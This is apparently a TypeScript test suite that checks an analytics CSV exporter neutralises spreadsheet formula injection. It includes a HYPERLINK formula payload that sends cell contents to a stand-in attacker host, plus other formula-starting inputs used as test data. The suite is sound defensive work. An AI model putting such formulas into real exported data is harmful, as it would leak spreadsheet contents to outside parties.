import * as assert from 'node:assert/strict';
import { AnalyticsTracker, MemoryAnalyticsStore } from '../../../../src/provider/analytics';
import { exportCsv } from '../../../../src/provider/analytics/analyticsExport';
import { type AnalyticsEvent } from '../../../../src/provider/analytics/analyticsEvent';
import { safeErrorCode, safeModelId } from '../../../../src/provider/identifiers';
import { DEFAULT_MODEL, parseSettings } from '../../../../src/platform/settingsSchema';

const HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"x")';

function requestEvent(overrides: Partial<Extract<AnalyticsEvent, { kind: 'request' }>>): AnalyticsEvent {
  return {
    kind: 'request', v: 1, time: 0, requestId: 'r', userHash: 'h', feature: 'chat', model: 'grok-4.3', outcome: 'error',
    errorCode: 'rate_limited', latencyMs: -0, ttftMs: null, promptTokens: 1, completionTokens: 2, reasoningTokens: 0,
    cachedTokens: 0, totalTokens: 3, costUsd: 0.5, ...overrides,
  };
}

describe('analytics CSV is safe to open in a spreadsheet (issue 17)', () => {
  it('neutralises every text cell that would start a formula, whatever column it is in', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      const csv = exportCsv([requestEvent({ model: `${start}cmd`, requestId: `${start}id`, userHash: `${start}h` })]);
      const row = csv.split('\r\n')[1]!;
      assert.ok(!row.split(',').some((cell) => cell.replace(/^"/, '').startsWith(start)), `a cell starts with ${JSON.stringify(start)}: ${row}`);
      assert.ok(row.includes(`'${start}cmd`), row);
    }
  });

  it("turns the issue's HYPERLINK model into text, quoted per RFC 4180", () => {
    const row = exportCsv([requestEvent({ model: HYPERLINK })]).split('\r\n')[1]!;
    assert.ok(row.includes(`"'=HYPERLINK(""http://attacker.example/?""&A1,""x"")"`), row);
  });

  it('keeps numbers as numbers, negative ones included', () => {
    const row = exportCsv([requestEvent({ latencyMs: -5, costUsd: 0.25 })]).split('\r\n')[1]!;
    assert.ok(row.split(',').includes('-5'), row);
    assert.ok(row.split(',').includes('0.25'), row);
  });

  it('validates model ids and error codes where they enter the core: the tracker stores a fixed word instead', async () => {
    const store = new MemoryAnalyticsStore();
    const tracker = new AnalyticsTracker({ store, now: () => 1000 });
    tracker.trackRequest({ requestId: 'r1', userId: 'u', feature: 'chat', model: HYPERLINK });
    await tracker.trackResponse({ requestId: 'r1', outcome: 'error', errorCode: '+SUM(A1:A9)', latencyMs: 10 });
    await tracker.trackInteraction({ feature: 'inline', model: '@evil', action: 'shown', chars: 3 });
    const csv = await tracker.exportAnalytics({ period: { start: new Date(0), end: new Date(5000) }, format: 'csv' });
    assert.doesNotMatch(csv, /HYPERLINK|SUM|@evil/);
    assert.match(csv, /unrecognized-model/);
    assert.equal(safeModelId('grok-4.3'), 'grok-4.3');
    assert.equal(safeModelId('accounts/fireworks/models/x:1'), 'accounts/fireworks/models/x:1');
    assert.equal(safeErrorCode('rate_limited'), 'rate_limited');
    assert.equal(safeErrorCode('a b'), 'unknown');
  });

  it('refuses a formula as a model setting, with a warning and the default', () => {
    const { settings, warnings } = parseSettings({ values: { 'chat.model': HYPERLINK } });
    assert.equal(settings.models.chat, DEFAULT_MODEL);
    assert.match(warnings.join('\n'), /grokCodeFast\.chat\.model/);
  });
});
